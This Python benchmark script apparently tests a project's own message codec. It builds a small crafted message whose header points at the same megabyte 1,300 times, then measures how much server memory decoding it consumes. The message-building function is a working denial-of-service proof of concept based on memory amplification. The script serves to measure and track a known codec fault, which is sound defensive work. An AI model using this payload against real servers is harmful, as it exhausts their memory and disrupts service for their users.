"""One client's message whose header names the same megabyte 1,300 times, read by the server in a
process of 4 GiB.

python benchmarks/privacy_attacks/codec_memory.py
"""

from __future__ import annotations

import hashlib
import json
import resource
import struct
import subprocess
import sys

from motley.core import codec
from motley.core.errors import CodecError

LIMIT = 65_536  # bytes of a header that the server takes from a client
FEW_GIB = 4 * 2**30


def message() -> bytes:
    blob = bytes(2**20)
    one = json.dumps({"a": [0, len(blob)], "t": "|u1", "s": [len(blob)]}, separators=(",", ":"))
    header = f'{{"l":[{",".join([one] * 1300)}]}}'.encode()
    assert len(header) < LIMIT
    raw = struct.pack("<4sHI", b"MTLY", 1, len(header)) + header + blob
    return raw + hashlib.blake2b(raw, digest_size=16).digest()


def read() -> None:
    """Read the message; print by how many bytes the process grew."""
    data = message()
    resource.setrlimit(resource.RLIMIT_AS, (FEW_GIB, FEW_GIB))
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    try:
        kept = codec.decode(data, header=LIMIT)
        size = sum(array.nbytes for array in kept)
    except (CodecError, MemoryError) as error:
        size = 0 if isinstance(error, CodecError) else FEW_GIB
    grown = 1024 * (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)
    print(max(size, grown), len(data))


def main() -> None:
    if sys.argv[1:] == ["read"]:
        read()
        return
    done = subprocess.run(
        [sys.executable, __file__, "read"], capture_output=True, text=True, check=True
    )
    grown, sent = map(int, done.stdout.split())
    figure = f"a message of {sent / 1e6:.2f} MB takes {grown / 1e6:,.1f} MB of the server's memory"
    print(
        json.dumps(
            {
                "fault": "overlapping references in the codec",
                "succeeded": grown > 10 * sent,
                "figure": figure,
            }
        )
    )


if __name__ == "__main__":
    main()
